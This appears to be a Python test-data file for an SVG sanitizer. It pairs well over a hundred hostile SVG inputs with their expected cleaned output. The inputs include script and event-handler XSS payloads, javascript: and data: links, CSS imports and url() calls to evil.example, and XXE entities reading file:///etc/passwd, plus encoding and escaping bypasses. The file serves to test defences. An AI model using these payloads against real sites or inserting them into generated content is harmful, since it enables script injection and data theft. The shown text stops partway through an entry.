"""List hostile pictures, and what cleaning leaves of each.

The attacks come from public lists: of sanitizers' authors, of browsers, of reported bugs.
"""

# ruff: noqa: E501

ROOT = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">'
KEPT = '<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">'

INSIDE = {
    "a script": ("<script>alert(1)</script>", ""),
    "a script from elsewhere": ('<script href="https://evil.example/x.js"/>', ""),
    "a script from elsewhere, XLink": ('<script xlink:href="https://evil.example/x.js"/>', ""),
    "a script in data": ('<script href="data:text/javascript,alert(1)"/>', ""),
    "a script with a prefix": (
        '<a-b:script xmlns:a-b="http://www.w3.org/2000/svg">alert(1)</a-b:script>',
        "",
    ),
    "a script of HTML": ('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>', ""),
    "a script of HTML with a prefix": (
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
        "",
    ),
    "a script in CDATA": ("<script><![CDATA[alert(1)]]></script>", ""),
    "a script in upper case": ("<SCRIPT>alert(1)</SCRIPT>", ""),
    "a script of another type": (
        '<script type="module">import("data:text/javascript,alert(1)")</script>',
        "",
    ),
    "a script in defs": ("<defs><g><script>alert(1)</script></g></defs>", "<defs><g/></defs>"),
    "a script in a title": ("<title><script>alert(1)</script></title>", "<title/>"),
    "a script in metadata": (
        '<metadata><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></metadata>',
        "",
    ),
    "a script in a style": ("<style>.a{}<script>alert(1)</script></style>", "<style>.a{}</style>"),
    "a script in text": ("<text>a<script>alert(1)</script>b</text>", "<text>ab</text>"),
    "a script in an element unknown": ("<x><script>alert(1)</script></x>", ""),
    "a script in an element of another namespace": (
        '<x xmlns="urn:x"><s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script></x>',
        "",
    ),
    "a script behind a comment": ("<!-- --><!-- > --><script>alert(1)</script>", ""),
    "a script in an SVG inside": ("<svg><script>alert(1)</script></svg>", "<svg/>"),
    "a handler": ('<g onload="alert(1)"/>', "<g/>"),
    "a handler in mixed case": ('<g onLoad="alert(1)" ONCLICK="alert(1)"/>', "<g/>"),
    "a handler with a prefix": (
        '<g s:onload="alert(1)" xmlns:s="http://www.w3.org/2000/svg"/>',
        "<g/>",
    ),
    "a handler of an animation": (
        '<rect><animate attributeName="x" dur="1s" onbegin="alert(1)" onend="alert(1)"/></rect>',
        '<rect><animate attributeName="x" dur="1s"/></rect>',
    ),
    "a handler of a picture": (
        '<image href="https://evil.example/none.png" onerror="alert(1)"/>',
        "<image/>",
    ),
    "a handler with the focus": (
        '<a href="#x" onfocus="alert(1)" autofocus="" tabindex="0"><text>x</text></a>',
        '<a href="#x"><text>x</text></a>',
    ),
    "a handler of an animated style": (
        '<style>@keyframes k{from{x:0}}</style><rect style="animation:k 1s" onanimationstart="alert(1)"/>',
        '<style>@keyframes k{from{x:0;}}</style><rect style="animation:k 1s"/>',
    ),
    "an element handler": (
        '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
        "",
    ),
    "an element listener": (
        '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="javascript:alert(1)"/>',
        "",
    ),
    "an event of XML": (
        '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#x"/>',
        "<g/>",
    ),
    "a link that runs": (
        '<a href="javascript:alert(1)"><text y="20">x</text></a>',
        '<a><text y="20">x</text></a>',
    ),
    "a link that runs, XLink": (
        '<a xlink:href="javascript:alert(1)"><text y="20">x</text></a>',
        '<a><text y="20">x</text></a>',
    ),
    "a link that runs, another prefix": (
        '<a x:href="javascript:alert(1)" xmlns:x="http://www.w3.org/1999/xlink"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link with a tab": (
        '<a href="java&#9;script:alert(1)"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link with a line's end": (
        '<a href="java&#10;script&#13;:alert(1)"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link with a control before it": (
        '<a href="&#x20;&#9;javascript:alert(1)"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link of entities": (
        '<a href="&#106;&#x61;vascript&#58;alert(1)"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link in mixed case": (
        '<a href="JaVaScRiPt:alert(1)"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link to VBScript": (
        '<a href="vbscript:alert(1)"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link to a page in data": (
        '<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link to an SVG in data": (
        '<a href="data:image/svg+xml,&lt;svg onload=alert(1)>"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link elsewhere": (
        '<a href="https://evil.example/" target="_top" ping="https://evil.example/" download=""><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link without a scheme": (
        '<a href="//evil.example/"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "two addresses": (
        '<a xlink:href="#a" href="javascript:alert(1)"><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a base": (
        '<g xml:base="javascript:alert(1)//"><a href="#x"><text>x</text></a></g>',
        '<g><a href="#x"><text>x</text></a></g>',
    ),
    "a base of HTML": (
        '<base xmlns="http://www.w3.org/1999/xhtml" href="https://evil.example/"/>',
        "",
    ),
    "a link set": (
        '<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link set, XLink": (
        '<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link animated": (
        '<a><animate attributeName="href" values="#x;javascript:alert(1)" begin="0s" dur="1s" fill="freeze"/><text>x</text></a>',
        "<a><text>x</text></a>",
    ),
    "a link animated from afar": (
        '<a id="l" href="#x"><text>x</text></a><animate href="#l" attributeName=" href" to="javascript:alert(1)"/>',
        '<a id="l" href="#x"><text>x</text></a>',
    ),
    "a handler set": ('<set attributeName="onmouseover" to="alert(1)"/>', ""),
    "a handler animated": (
        '<animate attributeName="onload" attributeType="XML" values="alert(1)"/>',
        "",
    ),
    "a style set": ('<set attributeName="style" to="fill:url(https://evil.example/#x)"/>', ""),
    "a paint animated": (
        '<rect><animate attributeName="fill" values="red;url(https://evil.example/#x)" dur="1s"/></rect>',
        '<rect><animate attributeName="fill" dur="1s"/></rect>',
    ),
    "a filter set": (
        '<rect><set attributeName="filter" to="url(https://evil.example/f.svg#x)"/></rect>',
        '<rect><set attributeName="filter"/></rect>',
    ),
    "an animation of elsewhere": (
        '<animate href="https://evil.example/x.svg#a" attributeName="x" to="1"/>',
        '<animate attributeName="x" to="1"/>',
    ),
    "a path of motion elsewhere": (
        '<rect><animateMotion dur="1s"><mpath href="https://evil.example/x.svg#p"/></animateMotion></rect>',
        '<rect><animateMotion dur="1s"><mpath/></animateMotion></rect>',
    ),
    "an element discarded": ('<discard begin="1s"/>', ""),
    "a page in the picture": (
        '<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
        '<foreignObject width="90" height="90"/>',
    ),
    "a page of source": (
        '<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>alert(1)&lt;/script>"/></foreignObject>',
        '<foreignObject width="90" height="90"/>',
    ),
    "a refresh": (
        '<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/></foreignObject>',
        "<foreignObject/>",
    ),
    "a refresh without a foreignObject": (
        '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/>',
        "",
    ),
    "a form": (
        '<foreignObject width="90" height="90"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="password" autofocus="" onfocus="alert(1)"/><button formaction="javascript:alert(1)">Go</button></form></foreignObject>',
        '<foreignObject width="90" height="90"/>',
    ),
    "an object": (
        '<foreignObject><object xmlns="http://www.w3.org/1999/xhtml" data="https://evil.example/x.html"/><embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x.swf"/></foreignObject>',
        "<foreignObject/>",
    ),
    "a picture of HTML": (
        '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)" srcset="https://evil.example/a.png 2x"/></foreignObject>',
        '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>',
    ),
    "HTML by its attributes": (
        '<foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml" background="https://evil.example/a.png" onload="alert(1)"><table background="https://evil.example/b.png"><tr><td>x</td></tr></table></body></foreignObject>',
        '<foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><table><tr><td>x</td></tr></table></body></foreignObject>',
    ),
    "a video": (
        '<foreignObject><video xmlns="http://www.w3.org/1999/xhtml" poster="https://evil.example/a.png" autoplay=""><source src="https://evil.example/a.mp4" onerror="alert(1)"/></video></foreignObject>',
        "<foreignObject/>",
    ),
    "a style sheet of HTML": (
        '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/a.css"/>',
        "",
    ),
    "a style of HTML": (
        '<foreignObject><style xmlns="http://www.w3.org/1999/xhtml">*{background:url(https://evil.example/a.png)}</style></foreignObject>',
        "<foreignObject/>",
    ),
    "a fetch ahead": (
        '<foreignObject><link xmlns="http://www.w3.org/1999/xhtml" rel="preload" as="image" href="https://evil.example/a.png"/><link xmlns="http://www.w3.org/1999/xhtml" rel="dns-prefetch" href="//evil.example"/></foreignObject>',
        "<foreignObject/>",
    ),
    "HTML without a foreignObject": (
        '<div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)">x</div>',
        "",
    ),
    "MathML with a link": (
        '<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mi>y</mi></maction></math></foreignObject>',
        '<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math></foreignObject>',
    ),
    "MathML with HTML in it": (
        '<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mi>x</mi><annotation-xml encoding="text/html"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></annotation-xml></semantics></math></foreignObject>',
        '<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mi>x</mi></semantics></math></foreignObject>',
    ),
    "a template with a shadow": (
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><template shadowrootmode="open"><script>alert(1)</script></template></div></foreignObject>',
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>',
    ),
    "a dialog": (
        '<foreignObject><dialog xmlns="http://www.w3.org/1999/xhtml" open="">x</dialog><details xmlns="http://www.w3.org/1999/xhtml" open="" ontoggle="alert(1)">y</details></foreignObject>',
        "<foreignObject/>",
    ),
    "a style imported": (
        '<style>@import "https://evil.example/a.css";.a{fill:red}</style>',
        "<style>.a{fill:red;}</style>",
    ),
    "a style imported by url()": (
        "<style>@import url(https://evil.example/a.css);</style>",
        "<style/>",
    ),
    "a style imported, escaped": (
        '<style>@\\69mport "https://evil.example/a.css"; .a{fill:red}</style>',
        "<style>.a{fill:red;}</style>",
    ),
    "a style imported behind a charset": (
        '<style>@charset "utf-8";@import"https://evil.example/a.css"screen;</style>',
        "<style/>",
    ),
    "a style imported in a comment's shade": (
        '<style>/**/@import/**/"https://evil.example/a.css";/*</style>',
        "<style/>",
    ),
    "a style imported in CDATA": (
        '<style><![CDATA[@import "https://evil.example/a.css";]]></style>',
        "<style/>",
    ),
    "a font from elsewhere": (
        "<style>@font-face{font-family:a;src:url(https://evil.example/a.woff2)}text{font-family:a}</style><text>x</text>",
        "<style>@font-face{font-family:a;}text{font-family:a;}</style><text>x</text>",
    ),
    "a background from elsewhere": (
        "<style>svg{background:url(https://evil.example/a.png)}</style>",
        "<style>svg{}</style>",
    ),
    "a background by image-set()": (
        "<style>svg{background:image-set('https://evil.example/a.png' 1x)}</style>",
        "<style>svg{}</style>",
    ),
    "a background by a variable": (
        "<style>svg{--a:url(https://evil.example/a.png);background:var(--a)}</style>",
        "<style>svg{background:var(--a);}</style>",
    ),
    "a background escaped": (
        "<style>svg{background:\\75 rl(https://evil.example/a.png)}</style>",
        "<style>svg{}</style>",
    ),
    "a background in mixed case": (
        "<style>svg{background:uRL( 'https://evil.example/a.png' )}</style>",
        "<style>svg{}</style>",
    ),
    "a background by src()": (
        "<style>svg{background:src('https://evil.example/a.png')}</style>",
        "<style>svg{}</style>",
    ),
    "a background in a nested rule": (
        "<style>@media screen{svg{&amp;:hover,&amp;{background:url(https://evil.example/a.png)}}}</style>",
        "<style>@media screen{svg{&amp;:hover,&amp;{}}}</style>",
    ),
    "a background behind a broken rule": (
        "<style>a{b:'\n} svg{background:url(https://evil.example/a.png)}</style>",
        "<style>a{}svg{}</style>",
    ),
    "a background that does not end": (
        "<style>svg{background:url(https://evil.example/a.png</style>",
        "<style>svg{}</style>",
    ),
    "a style that leaves its element": (
        "<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>",
        "<style/>",
    ),
    "a namespace of CSS": (
        "<style>@namespace url(https://evil.example/);svg{fill:red}</style>",
        "<style>svg{fill:red;}</style>",
    ),
    "a style of another type": (
        '<style type="text/xsl">@import "https://evil.example/a.css";</style>',
        "",
    ),
    "an expression": (
        '<rect style="width:expression(alert(1));fill:red"/>',
        '<rect style="fill:red;"/>',
    ),
    "a binding": (
        '<rect style="-moz-binding:url(https://evil.example/x.xml#a);behavior:url(https://evil.example/x.htc);fill:red"/>',
        '<rect style="fill:red;"/>',
    ),
    "a style attribute": (
        '<rect style="fill:url(https://evil.example/a.svg#x);stroke:red"/>',
        '<rect style="stroke:red;"/>',
    ),
    "a style attribute, escaped": (
        '<rect style="fill:u\\72l(https://evil.example/a.svg#x);stroke:red"/>',
        '<rect style="stroke:red;"/>',
    ),
    "a style attribute that leaves its rule": (
        '<rect style="fill:red}*{background:url(https://evil.example/a.png)"/>',
        '<rect style=""/>',
    ),
    "a paint from elsewhere": (
        '<rect fill="url(https://evil.example/a.svg#x)" stroke="url(&quot;https://evil.example/a.svg#x&quot;)"/>',
        "<rect/>",
    ),
    "a paint of a script": ('<rect fill="url(javascript:alert(1))"/>', "<rect/>"),
    "a filter from elsewhere": (
        '<rect filter="url(https://evil.example/a.svg#x)" mask="url(https://evil.example/a.svg#x)" clip-path="url(https://evil.example/a.svg#x)" marker-end="url(https://evil.example/a.svg#x)"/>',
        "<rect/>",
    ),
    "a cursor from elsewhere": ('<rect cursor="url(https://evil.example/a.cur),auto"/>', "<rect/>"),
    "a paint in a comment's shade": (
        '<rect fill="/*url(#a)*/url(https://evil.example/a.svg#x)"/>',
        "<rect/>",
    ),
    "a picture from elsewhere": (
        '<image width="9" height="9" href="https://evil.example/a.png"/>',
        '<image width="9" height="9"/>',
    ),
    "a picture from elsewhere, XLink": (
        '<image width="9" height="9" xlink:href="//evil.example/a.png"/>',
        '<image width="9" height="9"/>',
    ),
    "a picture beside it": (
        '<image href="../../.git/config"/><image href="file:///etc/passwd"/>',
        "<image/><image/>",
    ),
    "a picture that is an SVG": (
        '<image href="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22%3E%3Cscript%3Ealert(1)%3C/script%3E%3Cpath d=%22M0 0%22/%3E%3C/svg%3E"/>',
        '<image href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9Ik0wIDAiLz48L3N2Zz4="/>',
    ),
    "a picture that is a page": (
        '<image href="data:text/html,&lt;script>alert(1)&lt;/script>"/>',
        "<image/>",
    ),
    "a picture of a type like SVG": (
        '<image href="data:image/svg+xml;x=1;base64,PHN2Zy8+"/><image href="data:image/png,&lt;svg/>"/>',
        "<image/><image/>",
    ),
    "a use of elsewhere": (
        '<use href="https://evil.example/a.svg#x"/><use xlink:href="https://evil.example/a.svg#x"/>',
        "<use/><use/>",
    ),
    "a use of data": (
        "<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x\"/>",
        "<use/>",
    ),
    "a feImage from elsewhere": (
        '<filter id="f"><feImage href="https://evil.example/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
        '<filter id="f"><feImage/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
    "a gradient from elsewhere": (
        '<linearGradient href="https://evil.example/a.svg#x"/><pattern xlink:href="https://evil.example/a.svg#x"/>',
        "<linearGradient/><pattern/>",
    ),
    "a text on a path elsewhere": (
        '<text><textPath href="https://evil.example/a.svg#x">x</textPath><tref xlink:href="https://evil.example/a.svg#x"/></text>',
        "<text><textPath>x</textPath></text>",
    ),
    "a font of SVG": (
        '<font-face><font-face-src><font-face-uri xlink:href="https://evil.example/a.svg#x"/></font-face-src></font-face>',
        "",
    ),
    "a profile of colours": (
        '<color-profile name="x" xlink:href="https://evil.example/a.icc"/><rect color-profile="x"/>',
        "<rect/>",
    ),
    "an animation in an SVG of Tiny": (
        '<animation xlink:href="https://evil.example/a.svg"/><audio xlink:href="https://evil.example/a.ogg"/><video xlink:href="https://evil.example/a.ogv"/>',
        "",
    ),
    "an extension that no one has": (
        '<switch><g requiredExtensions="https://evil.example/x"><script>alert(1)</script></g><text>y</text></switch>',
        '<switch><g requiredExtensions="https://evil.example/x"/><text>y</text></switch>',
    ),
    "CDATA that looks like an end": (
        "<text><![CDATA[</text></svg><script>alert(1)</script>]]></text>",
        "<text>&lt;/text&gt;&lt;/svg&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>",
    ),
    "a script in words": (
        '<text title="&quot;>&lt;script>alert(1)&lt;/script>" class="&lt;script>">&lt;script&gt;alert(1)&lt;/script&gt;</text>',
        '<text class="&lt;script&gt;">&lt;script&gt;alert(1)&lt;/script&gt;</text>',
    ),
    "a style sheet inside": ('<?xml-stylesheet href="https://evil.example/a.css"?><g/>', "<g/>"),
    "instructions": (
        '<?php echo 1 ?><?import namespace="t"?><!-- [if IE]><script>alert(1)</script> --><g/>',
        "<g/>",
    ),
    "a document of XSLT": (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>alert(1)</script></xsl:template></xsl:stylesheet>',
        "",
    ),
    "an XInclude": (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="https://evil.example/a.xml"/>',
        "",
    ),
    "an XForm": (
        '<xf:submission xmlns:xf="http://www.w3.org/2002/xforms" action="javascript:alert(1)"/>',
        "",
    ),
    "XUL": (
        '<x:image xmlns:x="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul" onerror="alert(1)"/>',
        "",
    ),
    "names that a script may trip over": (
        '<g style="animation-timing-function:steps(1);fill:red" class="a" id="__proto__" name="body" nonce="x"/>',
        '<g style="animation-timing-function:steps(1);fill:red" class="a" id="__proto__"/>',
    ),
}
"""What stands in a picture → what of it is published."""

WHOLE = {
    "handlers of the root": (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" onresize="alert(1)" onunload="alert(1)"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    "a root with a prefix": (
        '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script><x:g/></x:svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>',
    ),
    "a handler declared": (
        '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    "a link declared": (
        '<!DOCTYPE svg [<!ATTLIST a href CDATA "javascript:alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"><a><text>x</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a><text>x</text></a></svg>',
    ),
    "a namespace declared": (
        '<!DOCTYPE svg [<!ATTLIST script xmlns CDATA "http://www.w3.org/2000/svg">]><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    "a script in an entity": (
        '<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
        "refused: declares the entity x; save it as plain SVG",
    ),
    "a name in an entity": (
        '<!DOCTYPE svg [<!ENTITY x "javascript:">]><svg xmlns="http://www.w3.org/2000/svg"><a href="&x;alert(1)"><text>x</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a><text>x</text></a></svg>',
    ),
    "a namespace in an entity": (
        '<!DOCTYPE svg [<!ENTITY s "http://www.w3.org/2000/svg">]><svg xmlns="&s;"><x:script xmlns:x="&s;">alert(1)</x:script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    "laughs by the billion": (
        '<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
        "refused: declares the entity b; save it as plain SVG",
    ),
    "one long laugh": (
        '<!DOCTYPE svg [<!ENTITY a "lollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollollol">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
        "refused: declares the entity a; save it as plain SVG",
    ),
    "a file in an entity": (
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        "refused: declares the entity x; save it as plain SVG",
    ),
    "a page in an entity": (
        '<!DOCTYPE svg [<!ENTITY x PUBLIC "-" "https://evil.example/a">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        "refused: declares the entity x; save it as plain SVG",
    ),
    "an entity of the document type": (
        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/a.dtd"> %x;]><svg xmlns="http://www.w3.org/2000/svg"/>',
        "refused: declares the entity x; save it as plain SVG",
    ),
    "a document type from elsewhere": (
        '<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg xmlns="http://www.w3.org/2000/svg"><g/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>',
    ),
    "an entity from elsewhere": (
        '<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        "refused: uses the entity &x;, which it does not declare",
    ),
    "a style sheet before it": (
        '<?xml-stylesheet type="text/css" href="https://evil.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"><g/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>',
    ),
    "a style sheet of XSLT": (
        '<?xml-stylesheet type="text/xsl" href="#x"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:stylesheet id="x" version="1.0"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></xsl:template></xsl:stylesheet></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    "a page of HTML": (
        "<!doctype html><script>alert(1)</script>",
        "refused: is not well-formed, so no browser shows it (line 1: syntax error)",
    ),
    "a page of XHTML": (
        '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        'refused: begins with <html>, not with <svg xmlns="http://www.w3.org/2000/svg">',
    ),
    "an SVG without its namespace": (
        '<svg onload="alert(1)"><script>alert(1)</script></svg>',
        'refused: begins with <svg>, not with <svg xmlns="http://www.w3.org/2000/svg">',
    ),
    "an SVG in mixed case": (
        '<SVG xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></SVG>',
        'refused: begins with <SVG>, not with <svg xmlns="http://www.w3.org/2000/svg">',
    ),
    "an SVG in an element of XML": (
        '<x><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg></x>',
        'refused: begins with <x>, not with <svg xmlns="http://www.w3.org/2000/svg">',
    ),
    "not well-formed": (
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</svg>',
        "refused: is not well-formed, so no browser shows it (line 1: mismatched tag)",
    ),
    "an attribute twice": (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="" onload="alert(1)"/>',
        "refused: is not well-formed, so no browser shows it (line 1: duplicate attribute)",
    ),
    "cut off": (
        '<svg xmlns="http://www.w3.org/2000/svg"><g onload="alert(1)"',
        "refused: is not well-formed, so no browser shows it (line 1: unclosed token)",
    ),
    "more behind it": (
        '<svg xmlns="http://www.w3.org/2000/svg"/><script>alert(1)</script>',
        "refused: is not well-formed, so no browser shows it (line 1: junk after document element)",
    ),
    "nothing": (
        "",
        "refused: is not well-formed, so no browser shows it (line 1: no element found)",
    ),
    "text": (
        "alert(1)",
        "refused: is not well-formed, so no browser shows it (line 1: not well-formed (invalid token))",
    ),
    "a null": (
        '<svg xmlns="http://www.w3.org/2000/svg"><scr\x00ipt>alert(1)</scr\x00ipt></svg>',
        "refused: is not well-formed, so no browser shows it (line 1: not well-formed (invalid token))",
    ),
    "UTF-16": (
        b'\xff\xfe<\x00s\x00v\x00g\x00 \x00x\x00m\x00l\x00n\x00s\x00=\x00"\x00h\x00t\x00t\x00p\x00:\x00/\x00/\x00w\x00w\x00w\x00.\x00w\x003\x00.\x00o\x00r\x00g\x00/\x002\x000\x000\x000\x00/\x00s\x00v\x00g\x00"\x00>\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00a\x00l\x00e\x00r\x00t\x00(\x001\x00)\x00<\x00/\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00<\x00t\x00e\x00x\x00t\x00>\x00\xe9\x00<\x00/\x00t\x00e\x00x\x00t\x00>\x00<\x00/\x00s\x00v\x00g\x00>\x00',
        '<svg xmlns="http://www.w3.org/2000/svg"><text>é</text></svg>',
    ),
    "UTF-16 without a mark": (
        b'<\x00s\x00v\x00g\x00 \x00x\x00m\x00l\x00n\x00s\x00=\x00"\x00h\x00t\x00t\x00p\x00:\x00/\x00/\x00w\x00w\x00w\x00.\x00w\x003\x00.\x00o\x00r\x00g\x00/\x002\x000\x000\x000\x00/\x00s\x00v\x00g\x00"\x00>\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00a\x00l\x00e\x00r\x00t\x00(\x001\x00)\x00<\x00/\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00<\x00t\x00e\x00x\x00t\x00>\x00\xe9\x00<\x00/\x00t\x00e\x00x\x00t\x00>\x00<\x00/\x00s\x00v\x00g\x00>\x00',
        '<svg xmlns="http://www.w3.org/2000/svg"><text>é</text></svg>',
    ),
    "UTF-16 by another name": (
        b'\xff\xfe<\x00?\x00x\x00m\x00l\x00 \x00v\x00e\x00r\x00s\x00i\x00o\x00n\x00=\x00"\x001\x00.\x000\x00"\x00 \x00e\x00n\x00c\x00o\x00d\x00i\x00n\x00g\x00=\x00"\x00u\x00t\x00f\x00-\x008\x00"\x00?\x00>\x00<\x00s\x00v\x00g\x00 \x00x\x00m\x00l\x00n\x00s\x00=\x00"\x00h\x00t\x00t\x00p\x00:\x00/\x00/\x00w\x00w\x00w\x00.\x00w\x003\x00.\x00o\x00r\x00g\x00/\x002\x000\x000\x000\x00/\x00s\x00v\x00g\x00"\x00>\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00a\x00l\x00e\x00r\x00t\x00(\x001\x00)\x00<\x00/\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00<\x00/\x00s\x00v\x00g\x00>\x00',
        "refused: is not well-formed, so no browser shows it (line 1: encoding specified in XML declaration is incorrect)",
    ),
    "UTF-32": (
